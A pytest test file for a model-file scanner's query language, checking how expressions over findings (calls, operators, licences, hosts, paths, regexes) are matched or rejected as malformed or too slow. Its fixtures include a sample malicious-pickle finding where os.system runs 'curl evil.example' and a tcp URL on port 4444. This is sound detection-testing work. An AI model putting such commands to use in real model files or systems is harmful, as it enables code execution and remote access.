"""The language of hunts: what expressions mean, and what becomes of those that are none."""

from __future__ import annotations

import contextlib
import string
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from modelsweep.core.finding import Fact
from modelsweep.core.locator import Locator
from modelsweep.core.report import Artifact, Unit, UnitResult
from modelsweep.fleet.hunt import DEEPEST, LONGEST, BadExpression, hunt, kinds_in


def model(path: str, *facts: tuple[str, str] | tuple[str, str, dict[str, Any]]) -> UnitResult:
    """Return the result of a file with these facts."""
    where = Locator(path)
    made = tuple(Fact(kind, value, where, detail=dict(*detail)) for kind, value, *detail in facts)
    return UnitResult(Unit(0, where, 1), (Artifact(where, 1, path[0] * 64, ()),), made)


MODELS = (
    model(
        "a/evil.pkl",
        ("call", "os.system", {"args": {"tuple": ["curl evil.example", {"list": [1]}]}}),
        ("import", "os.system"),
    ),
    model("b/model.pt", ("call", "torch._utils._rebuild_tensor_v2"), ("licence", "MIT"), ("framework", "PyTorch")),
    model("c/graph.pb", ("operator", "PyFunc"), ("operator", "MatMul"), ("licence", "Apache-2.0")),
    model("d/chat.gguf", ("template", "{{ a }} (draft) b"), ("metadata", "general.url", {"text": "https://x.example"})),
    model("e/flag.h5", ("keras-lambda", "x", {"safe": False, "arity": 2.5, "none": None}), ("metadata", "and:or")),
    model("f/plain.npy"),
    model(
        "g/seen.pkl",
        ("url", "tcp://203.0.113.7:4444"),
        ("url", "https://user:password.of@[2001:db8::1]:8443/x"),
        ("code-reference", "git+ssh://git@hub.example/a/b"),
    ),
)


def found(expression: str) -> str:
    """Return the initials of the files of which an expression is true."""
    return "".join(str(hit.locator)[0] for hit in hunt(expression, MODELS))


@pytest.mark.parametrize(
    ("expression", "expected"),
    [
        ("call:os.system", "a"),
        ("call:os", ""),
        ("call:os.*", "a"),
        ("call:*", "ab"),
        ("CALL:OS.SYSTEM", "a"),
        ("call:os.syste?", "a"),
        ("call:[op]s.system", "a"),
        ("operator:pyfunc", "c"),
        ("license:mit", "b"),
        ("licence:mit or licence:apache-2.0", "bc"),
        ("call:* and not licence:*", "a"),
        ("call:* not licence:*", "a"),
        ("licence:* call:*", "b"),
        ("not call:*", "cdefg"),
        ("not not call:*", "ab"),
        ("not (call:* or licence:*)", "defg"),
        ("call:os.system or licence:mit and framework:tensorflow", "a"),
        ("(call:os.system or licence:mit) and framework:pytorch", "b"),
        ("NOT call:* AND operator:* OR path:f*", "cf"),
        ("any:*system*", "a"),
        ("import:os.system and call:os.system", "a"),
        ("detail.args:*curl*", "a"),
        ("detail.args:1", "a"),
        ("detail.safe:false", "e"),
        ("detail.arity:2.5", "e"),
        ("detail.none:*", ""),
        ("detail.missing:*", ""),
        ("metadata:general.url detail.text:https://*", "d"),
        ('template:"* (draft) *"', "d"),
        ("template:*'(draft)'*", "d"),
        (r"""template:re:'[{][{] a [}][}] [(]\w+[)] b$'""", "d"),
        (r"""metadata:"gen\"eral" or operator:"Py"Func""", "c"),
        ("metadata:and:or", "e"),
        ("host:x.example", "d"),
        ("host:X.EXAMPLE", "d"),
        ("host:*.example", "adg"),
        ("host:evil.example", "a"),
        ("host:re:^203\\.0\\.", "g"),
        ("host:[[]2001:db8::1[]]", "g"),
        ("host:hub.example", "g"),
        ("host:password*", ""),
        ("host:os.system", ""),
        ("host:*", "adg"),
        ("path:*.p?", "bc"),
        ("path:re:^[af]/", "af"),
        ("digest:aaaa*", "a"),
        (r"call:re:'_rebuild_tensor(_v\d)?$'", "b"),
        ("call:re:REBUILD", ""),
        ("call:re:'(?i)REBUILD'", "b"),
        (r'template:re:"\{\{ a"', "d"),
        ('template:re:"[{][{] a"', "d"),
        ("nothing:*", ""),
        ("  call:os.system  ", "a"),
        ("((((call:os.system))))", "a"),
    ],
)
def test_what_expressions_are_true_of(expression: str, expected: str) -> None:
    assert found(expression) == expected


def test_a_hit_says_which_facts_made_it_true() -> None:
    (hit,) = hunt("(call:os.* or operator:*) and import:* and not licence:*", MODELS)
    assert [f"{fact.kind}:{fact.value}" for fact in hit.facts] == ["call:os.system", "import:os.system"]
    assert (str(hit.locator), hit.digest) == ("a/evil.pkl", "a" * 64)
    (both,) = hunt("call:os.* or any:os.system", MODELS)
    assert len(both.facts) == 2, "each fact once"
    (plain,) = hunt("path:f*", MODELS)
    assert plain.facts == ()


def test_kinds_that_there_are_not_can_be_told() -> None:
    seen: set[str] = set()
    assert not list(hunt("cal:os.system or license:x", MODELS, seen))
    assert [
        kind for kind in kinds_in("cal:os.system or (license:x and not any:y) path:z cal:b") if kind not in seen
    ] == ["cal"]
    assert "call" in seen


@pytest.mark.parametrize(
    ("expression", "said"),
    [
        ("", "a term is missing, such as call:os.system (at character 1)"),
        ("   ", "a term is missing"),
        ("os.system", "'os.system' is not a term"),
        ("call:", "a pattern is missing"),
        ('call:""', "a pattern is missing"),
        (":x", "':x' is not a term"),
        ("c all:x", "'c' is not a term"),
        ("detail.:x", "is not a term"),
        ("call:a and", "a term is missing, such as call:os.system (at character 11)"),
        ("and call:a", "a term is missing"),
        ("call:a or or call:b", "a term is missing"),
        ("not", "a term is missing"),
        ("(call:a", "a parenthesis is not closed (at character 8)"),
        ("call:a)", "')' where the expression should end (at character 7)"),
        ("()", "a term is missing"),
        ('call:"a', "a quote is not closed (at character 6)"),
        ("call:re:(", "is not a regular expression"),
        ("call:re:a{99999999999}", "is not a regular expression"),
        ("call:re:(a+)+$", "could take too long"),
        ("call:re:(a|a)*b", "could take too long"),
        ("call:re:(a|ab)(c|bcd)(d*)" + "(x|xy)" * 30, "could take too long"),
        ("call:re:.*a.*b.*c", "could take too long"),
        ("call:re:" + "a?" * 40 + "a" * 40, "could take too long"),
        ("call:re:((a?){30}){30}", "could take too long"),
        (r"call:re:(.)\1", "hunting does without"),
        ("call:re:(?=a)b", "hunting does without"),
        ("call:re:(?<!a)b", "hunting does without"),
        ("(" * (DEEPEST + 2) + "call:a" + ")" * (DEEPEST + 2), "inside each other"),
        ("not " * 10_000 + "call:a", "at most"),
        ("not " * 1000 + "call:a", "inside each other"),
        ("call:" + "a" * LONGEST, "at most"),
    ],
)
def test_what_is_no_expression_is_said_before_anything_is_read(expression: str, said: str) -> None:
    if expression.startswith("call:re:("):
        expression = f"call:re:'{expression[8:]}'"
    with pytest.raises(BadExpression) as caught:
        hunt(expression, iter(()))
    assert said in str(caught.value)


SLOW: dict[str, Callable[[], str]] = {
    "call:re:.*a.*b": lambda: "a" * 100_000,
    "call:re:a+b": lambda: "a" * 100_000,
    "call:re:x*x*z": lambda: "x" * 100_000 + "y",
    "call:*a*a*a*a*b": lambda: "a" * 10_000,
    "call:re:'(ab|cd)?e?f?g?z'": lambda: "abcd" * 10_000,
}


@pytest.mark.parametrize("expression", SLOW)
def test_what_is_allowed_ends_soon_on_any_value(expression: str) -> None:
    """Held by the timeout of the tests: unbounded, these take minutes to centuries."""
    assert not list(hunt(expression, [model("a", ("call", SLOW[expression]()))]))


@given(st.text(string.printable, max_size=40))
def test_any_text_is_an_expression_or_is_said_to_be_none(text: str) -> None:
    with contextlib.suppress(BadExpression):
        assert len(list(hunt(text, MODELS))) <= len(MODELS)


@given(
    st.recursive(
        st.sampled_from(["call:*", "licence:*", "operator:*", "path:e*"]),
        lambda inner: st.one_of(
            st.tuples(st.just("not"), inner), st.tuples(inner, st.sampled_from(["and", "or"]), inner)
        ),
        max_leaves=8,
    )
)
def test_logic_is_that_of_python(tree: Any) -> None:
    leaves = {"call:*": "ab", "licence:*": "bc", "operator:*": "c", "path:e*": "e"}

    def text(node: Any) -> str:
        if isinstance(node, str):
            return node
        return f"({' '.join(part if part in ('not', 'and', 'or') else text(part) for part in node)})"

    def value(node: Any) -> set[str]:
        if isinstance(node, str):
            return set(leaves[node])
        if node[0] == "not":
            return set("abcdefg") - value(node[1])
        left, word, right = node
        return value(left) & value(right) if word == "and" else value(left) | value(right)

    assert set(found(text(tree))) == value(tree)
